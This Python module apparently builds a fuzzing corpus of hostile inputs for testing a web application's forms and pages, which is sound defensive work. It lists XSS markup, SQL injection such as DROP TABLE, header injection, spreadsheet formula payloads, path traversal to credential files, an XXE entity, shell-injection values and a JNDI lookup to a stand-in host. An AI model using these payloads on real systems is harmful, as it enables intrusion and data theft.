"""What somebody could write to do harm, by family. Made by code, so that each trick meets each place.

Every day some of each family go the long way through forms and pages; all of them with RIKTNING_HOSTILE=all.
"""

import os
from collections.abc import Sequence
from itertools import product

WHOLE = os.environ.get("RIKTNING_HOSTILE") == "all"

RUN = "alert(1)"
BAD = "https://ond.example/x"

MARKUP = [
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC={BAD}></SCRIPT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script\n>{RUN}</script\n>",
    f"<script/x>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<img/src='x'/onerror='{RUN}'>",
    f'<img src="x" ONERROR = "{RUN}"',
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}//",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=9>a</text></a></svg>",
    f"<math><mi xlink:href='javascript:{RUN}'>a</mi></math>",
    f"<math><mtext><table><mglyph><style><img src onerror={RUN}>",
    f"<body onload={RUN}>",
    f"<iframe src='javascript:{RUN}'></iframe>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<object data='data:text/html,<script>{RUN}</script>'></object>",
    f"<embed src='{BAD}'>",
    f"<link rel=stylesheet href='{BAD}'>",
    f"<style>@import '{BAD}';</style>",
    f"<style>*{{background:url({BAD})}}</style>",
    f"<base href='{BAD}'>",
    f"<meta http-equiv=refresh content='0;url={BAD}'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<form action='{BAD}'><input name=a><button>OK</button></form>",
    f"<button formaction='javascript:{RUN}'>a</button>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>a</details>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>a</marquee>",
    f"<a href='javascript:{RUN}'>a</a>",
    f"<p style='background:url({BAD})'>a",
    f"<div hx-get='{BAD}' hx-trigger=load>a</div>",
    f"<div data-hx-get='{BAD}' data-hx-trigger=load>a</div>",
    f"<div hx-on:load='{RUN}'>a</div>",
    f"<template shadowrootmode=open><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<x contenteditable onblur={RUN} tabindex=1 id=x>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"<?php echo 1 ?><img src=x onerror={RUN}>",
    "<h1>Inte vår rubrik</h1>",
    "<b>Inte fet</b> &amp; &lt;inte&gt; &#60;heller&#x3e;",
    "<",
    "<>",
    "</",
    "&",
    "&#",
    "&lt",
    "<!",
    "<?",
]
BREAKERS = [
    '"',
    "'",
    '">',
    "'>",
    "`>",
    "</textarea>",
    "</title>",
    "</h1>",
    "</p></div>",
    "-->",
    "\\'",
    '" x="',
]
BREAKING = [
    f"<svg onload={RUN}>",
    f" onmouseover={RUN} ",
    f"<script>{RUN}</script>",
    f" autofocus onfocus={RUN} y=",
]
SCHEMES = [
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f" javascript:{RUN}",
    f"java\tscript:{RUN}",
    f"java&#x0A;script:{RUN}",
    f"javascript&#58;{RUN}",
    f"&#106;avascript:{RUN}",
    f"\x01javascript:{RUN}",
    f"javascript://%0a{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg onload={RUN}>",
    f"vbscript:{RUN}",
    "file:///etc/passwd",
    "blob:https://ond.example/1",
    "//ond.example/x",
    BAD,
    "\\\\ond.example\\x",
]
LINKS = ["[a]({})", "<{}>", "[a]: {}\n\n[a]", "{}"]
MORE_LINKS = ["![a]({})", "[a](<{}>)", '[a]({} "t")', "[![a]({})](x)"]
IN_LINKS = [*product(LINKS, SCHEMES), *product(MORE_LINKS, SCHEMES[:2])]
MARKDOWN = [
    f"```\n<script>{RUN}</script>\n```",
    f"```html <img src=x onerror={RUN}>",
    f"~~~\n</code></pre><script>{RUN}</script>",
    f"`<script>{RUN}</script>`",
    f"    <script>{RUN}</script>",
    f"- <img src=x onerror={RUN}>\n- [x] a",
    f"> > > <svg onload={RUN}>",
    f"| a | b |\n|---|---|\n| <img src=x onerror={RUN}> | b |",
    f"# <img src=x onerror={RUN}>",
    f'[a](x "onmouseover={RUN}")',
    f'[a](x" onmouseover="{RUN})',
    f"[a](x'onmouseover='{RUN})",
    f"![<img src=x onerror={RUN}>](x)",
    f"[<img src=x onerror={RUN}>](x)",
    f"a{{onclick={RUN}}}",
    f"*a*{{: onclick={RUN}}}",
    ">" * 300 + " djupt",
    "*" * 500,
    "[" * 400,
    "![" * 200 + "]()" * 200,
    "- " * 100 + "a",
    "**a " * 200,
    "`" * 999,
    "&#0;&#x110000;&#xD800;&nbsp;&bogus;",
]
TEMPLATES = [
    "{{ 7*7 }}",
    "{% csrf_token %}",
    "{% include 'admin/base.html' %}",
    "{{ request.user.email }}",
    "{{ settings.SECRET_KEY }}",
    "{% load ui %}{{ x|safe }}",
    "{# borta #}",
    "{{'a'.__class__.__mro__}}",
    "{%%}{{}}{##}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "[[7*7]]",
    "{{constructor.constructor('alert(1)')()}}",
    "{0}{1}{name!r}{a.__init__.__globals__}",
    "%s%s%s%n%x%d",
    "%(name)s %(title)s %(count)d",
    "100 % av alla, 50% av några",
    "%",
    "%%(name)s",
    "{",
    "}}",
]
DATABASE = [
    "' OR '1'='1",
    "'; DROP TABLE feedback_feedback; --",
    '" OR ""="',
    "1); DELETE FROM people_person; --",
    "' UNION SELECT directory_id, email FROM people_person --",
    "\\'; SELECT pg_sleep(9); --",
    "%' AND 1=1 --",
    "_%_%_",
    "$$; SELECT 1; $$",
    "/* a */ SELECT 1",
    "x' || (SELECT 1) || '",
    "Robert'); DROP TABLE Students;--",
]
HEADERS = [
    f"a{line}{header}"
    for line, header in product(
        ["\r\n", "\n", "\r", "%0d%0a", "\u2028", "\x85", "\x0b"],
        ["Bcc: ond@ond.example", "Set-Cookie: sessionid=1", "\n<script>alert(1)</script>"],
    )
]
CONTROLS = [f"a{chr(code)}b" for code in (*range(1, 9), 11, 12, *range(14, 32), 127, 128, 0x9B, 0x9F)]
TURNING = [
    f"Räkning {chr(code)}fdp.exe" for code in (0x200E, 0x200F, *range(0x202A, 0x202F), *range(0x2066, 0x206A))
]
UNSEEN = [
    f"a{chr(code)}b" for code in (0xAD, 0x200B, 0x200C, 0x200D, 0x2060, 0xFEFF, 0x180E, 0x3164, 0xE0041)
]
SPACES = [f"a{chr(code)}b" for code in (0xA0, 0x1680, 0x2000, 0x2003, 0x2009, 0x202F, 0x205F, 0x3000)]
SIGNS = [
    "👩‍👩‍👧‍👦 🏳️‍🌈 🇸🇪",
    "𝓐𝓵𝓮𝓻𝓽 𠜎𠜱 𝕏",
    "Z̶̢̛a̷͓̓l̵̰͘g̸̙̈́o̴̫͊" * 3,
    "a" + "\u0301" * 60,
    "раураl.example, аdmin",
    "Å Å Å ﬁ ß İ ı ſ",
    "مرحبا بالعالم",
    "שלום עולם",
    "日本語のテキスト",
    "\ufffe\uffff\U0001fffe",
    "\ue000\U000f0000",
    "\ufffd\ufffc",
    "ﷺ" * 20,
    "＜script＞alert(1)＜/script＞",
    "‹script›alert(1)‹/script›",
    "\U000e0001\U000e0041\U000e0042",
]
FORMULAS = [
    f"{sign}{formula}"
    for sign, formula in product(
        ["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", ";=", '"=', "'="],
        ["1+1", 'HYPERLINK("https://ond.example";"a")', "cmd|' /C calc'!A0"],
    )
]
PATHS = [
    "../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "%2e%2e%2f%2e%2e%2fetc/passwd",
    "....//....//etc/passwd",
    "/dev/null",
    "C:\\con\\con",
    "file:///etc/passwd",
    "a/../../b",
    "~/.ssh/id_rsa",
    ".htaccess",
]
DATA = [
    '{"a": "b", "__proto__": {"x": 1}}',
    "</script><script>alert(1)</script>",
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    "]]><a/>",
    "BEGIN:VCALENDAR\r\nEND:VCALENDAR",
    "NaN",
    "-0",
    "1e309",
    "0x7fffffff",
    "9" * 40,
    "None",
    "null",
    "undefined",
    "true",
    "[]",
    "\\",
    "\\n\\u0000\\x00",
    "$(touch /tmp/x)",
    "`id`",
    "; cat /etc/passwd",
    "() { :;}; echo x",
    "${jndi:ldap://ond.example/a}",
]
LONG = ["å" * 5_000, "ord " * 4_000, "a\n" * 3_000, "W" * 121, "<b>" * 2_000, "a," * 9_000]

FAMILIES: dict[str, list[str]] = {
    "markup": MARKUP,
    "breaking out": [breaker + rest for breaker, rest in product(BREAKERS, BREAKING)],
    "links": [link.format(scheme) for link, scheme in IN_LINKS],
    "Markdown": MARKDOWN,
    "templates and formats": TEMPLATES,
    "database": DATABASE,
    "headers": HEADERS,
    "control characters": CONTROLS,
    "turning the writing": TURNING,
    "unseen": UNSEEN,
    "spaces": SPACES,
    "signs": SIGNS,
    "formulas": FORMULAS,
    "paths": PATHS,
    "data": DATA,
    "long": LONG,
}
CORPUS = list(dict.fromkeys(text for texts in FAMILIES.values() for text in texts))

# Refused everywhere, since no database or page can hold it.
NUL = ["\x00", "a\x00b", "\x00<script>alert(1)</script>", "a\x00", "=1+1\x00"]


def some_of(texts: Sequence[str], every: int) -> Sequence[str]:
    """One of every so many, from the first on: what is alike stands together in a family."""
    return texts if WHOLE else texts[::every]
